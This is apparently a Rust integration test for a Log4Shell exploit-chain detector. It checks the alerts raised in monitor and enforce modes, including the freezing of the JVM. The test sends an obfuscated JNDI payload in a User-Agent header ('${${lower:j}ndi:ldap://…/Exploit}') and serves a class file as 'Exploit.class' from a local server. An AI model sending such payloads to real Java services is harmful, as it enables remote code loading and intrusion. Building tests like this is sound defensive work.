//! The first and third stages of Log4Shell, and the incident that ties them together.
//!
//! A JVM serving HTTP receives a request whose User-Agent carries an obfuscated JNDI lookup
//! (`${${lower:j}ndi:ldap://…}`), then downloads a real Java class file over HTTP.
//! Proves, in monitor mode: `jndi_probe` (de-obfuscated, located in the header, inbound
//! network block), `jvm_class_download` (critical, class file version) and exactly one
//! `exploit_chain` (critical) — all three with the same `incident_id`, the chain carrying the
//! stages and a timeline. In enforce mode with `response.on_chain = "freeze"`: the class bytes
//! never reach the JVM (its download fails), the alert says `blocked`, and the chain stops the
//! JVM (SIGSTOP, state T) and attaches forensics from /proc.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    thread,
    time::{Duration, Instant},
};

use integration_tests::{
    alert, assert_nothing_lost, compile_java, require_kernel_support, Detector, JavaProgram, Mode,
    RunningProgram, TestCgroup,
};
use serde_json::Value;

/// Serves one real class file (from the compiled test programs) to every request.
fn class_server() -> SocketAddr {
    let class = std::fs::read(compile_java().join("Scenario.class")).expect("a compiled class");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind class server");
    let addr = listener.local_addr().expect("local addr");
    thread::spawn(move || {
        for conn in listener.incoming().take(8) {
            let Ok(mut conn) = conn else { continue };
            let mut buf = [0u8; 2048];
            let _ = conn.read(&mut buf);
            let head = format!(
                "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: {}\r\n\r\n",
                class.len()
            );
            let _ = conn.write_all(head.as_bytes());
            let _ = conn.write_all(&class);
        }
    });
    addr
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port")
}

fn wait_listening(program: &RunningProgram) {
    program.wait_for_output("listening", Duration::from_secs(20));
}

/// Waits for the JVM to listen, then sends the probe.
fn probe(program: &RunningProgram, port: u16) {
    wait_listening(program);
    let mut conn = TcpStream::connect(("127.0.0.1", port)).expect("connect to the JVM");
    // Bounded: in enforce mode the JVM may be frozen before it closes the connection.
    conn.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("set a read timeout");
    conn.write_all(
        b"GET /login HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nUser-Agent: ${${lower:j}ndi:ldap://127.0.0.1:1389/Exploit}\r\n\r\n",
    )
    .expect("send the probe");
    let mut reply = Vec::new();
    let _ = conn.read_to_end(&mut reply);
}

fn rule_is(name: &'static str) -> impl Fn(&Value) -> bool {
    move |a| alert::rule(a) == Some(name)
}

/// Which starts first: on a real host almost every JVM predates the detector.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Order {
    DetectorFirst,
    JvmFirst,
}

/// The JVM runs in the returned cgroup, which must outlive the checks on the JVM.
fn scenario(
    mode: Mode,
    on_chain: &str,
    order: Order,
) -> (TestCgroup, Detector, Vec<Value>, RunningProgram) {
    let first = if order == Order::JvmFirst {
        "-jvm-first"
    } else {
        ""
    };
    let cgroup = TestCgroup::new(&format!("inbound-{}{first}", mode.as_str()));
    let policy = format!(
        "mode = \"{}\"\n[response]\non_chain = \"{on_chain}\"\n",
        mode.as_str()
    );
    let classes = class_server();
    let port = free_port();
    let start_jvm = || {
        JavaProgram::new("Inbound")
            .arg(port.to_string())
            .arg(format!("http://{classes}/Exploit.class"))
            .spawn_in_cgroup(&cgroup)
    };
    let (detector, program) = match order {
        Order::DetectorFirst => {
            let detector = Detector::start(&policy, mode, &cgroup);
            (detector, start_jvm())
        }
        Order::JvmFirst => {
            let program = start_jvm();
            wait_listening(&program);
            (Detector::start(&policy, mode, &cgroup), program)
        }
    };
    probe(&program, port);
    let chain = detector.wait_for_alerts(rule_is("exploit_chain"), 1, Duration::from_secs(20));
    (cgroup, detector, chain, program)
}

#[test]
fn probe_and_class_download_make_one_incident() {
    one_incident(Order::DetectorFirst);
}

/// The same attack on a JVM that was serving before the detector started: the daemon seeds it
/// from /proc and inspects its packets all the same.
#[test]
fn probe_to_a_jvm_started_before_the_detector_makes_the_same_incident() {
    one_incident(Order::JvmFirst);
}

fn one_incident(order: Order) {
    if !require_kernel_support() {
        return;
    }
    let (_cgroup, mut detector, chains, program) = scenario(Mode::Monitor, "quarantine", order);
    let probes = detector.wait_for_alerts(rule_is("jndi_probe"), 1, Duration::from_secs(10));
    let classes =
        detector.wait_for_alerts(rule_is("jvm_class_download"), 1, Duration::from_secs(10));
    let run = program.wait(Duration::from_secs(30));
    assert!(
        run.stdout.contains("fetch-bytes"),
        "monitor must not stop the download:\n{run}"
    );

    let probe = &probes[0];
    assert_eq!(probe["severity"], "medium");
    assert_eq!(probe["network"]["direction"], "inbound");
    assert_eq!(probe["network"]["src_ip"], "127.0.0.1");
    let summary = probe["summary"].as_str().unwrap_or_default();
    assert!(
        summary.contains("${jndi:ldap://127.0.0.1:1389/Exploit}"),
        "{summary}"
    );
    assert!(summary.contains("User-Agent"), "{summary}");
    assert!(summary.contains("lower"), "obfuscation named: {summary}");

    let class = &classes[0];
    assert_eq!(class["severity"], "critical");
    assert_eq!(class["action"], "reported");
    assert_eq!(class["jvm"]["pid"].as_u64(), Some(run.jvm_pid()));
    let indicator = class["network"]["indicator"].as_str().unwrap_or_default();
    assert!(indicator.starts_with("class file version"), "{indicator}");

    assert_eq!(
        chains.len(),
        1,
        "one chain: {}",
        alert::list(&detector.alerts())
    );
    let chain = &chains[0];
    assert_eq!(chain["severity"], "critical");
    let id = &chain["incident_id"];
    assert_eq!(&probe["incident_id"], id);
    assert_eq!(&class["incident_id"], id);
    let stages: Vec<&str> = chain["incident"]["stages"]
        .as_array()
        .map(|s| s.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    assert_eq!(stages, ["probe", "class_download"]);
    assert!(chain["incident"]["timeline"]
        .as_array()
        .is_some_and(|t| t.len() >= 2));
    assert!(
        chain.get("forensics").is_none(),
        "monitor mode takes no action"
    );
    let all = detector.alerts();
    assert_eq!(
        all.iter()
            .filter(|a| alert::rule(a) == Some("exploit_chain"))
            .count(),
        1,
        "{}",
        alert::list(&all)
    );
    assert_nothing_lost(&detector.stop());
}

#[test]
fn enforce_drops_the_class_and_freezes_the_jvm() {
    if !require_kernel_support() {
        return;
    }
    let (_cgroup, mut detector, chains, program) =
        scenario(Mode::Enforce, "freeze", Order::DetectorFirst);
    let classes =
        detector.wait_for_alerts(rule_is("jvm_class_download"), 1, Duration::from_secs(10));
    assert_eq!(classes[0]["action"], "blocked");
    let chain = &chains[0];
    assert_eq!(chain["action"], "frozen", "{chain}");
    assert!(chain["forensics"]["cmdline"]
        .as_array()
        .is_some_and(|c| c.iter().any(|a| a == "Inbound")));
    // The JVM is stopped, not gone. SIGSTOP is asynchronous: the alert can be out before
    // every thread of the JVM has reached the stop, so the state may still read R briefly.
    let pid = program.pid();
    let deadline = Instant::now() + Duration::from_secs(5);
    let stat = loop {
        let stat =
            std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("the JVM still exists");
        if process_state(&stat) == Some("T") || Instant::now() > deadline {
            break stat;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(process_state(&stat), Some("T"), "JVM state: {stat}");
    // SAFETY: plain kill(2) on our own child.
    unsafe { libc::kill(pid as i32, libc::SIGKILL) };
    let run = program.wait(Duration::from_secs(10));
    assert!(
        !run.stdout.contains("fetch-bytes"),
        "the class must not arrive:\n{run}"
    );
    assert_nothing_lost(&detector.stop());
}

/// The state letter of a `/proc/PID/stat` line (the field after the command's closing paren).
fn process_state(stat: &str) -> Option<&str> {
    stat.rsplit(')').next()?.split_whitespace().next()
}
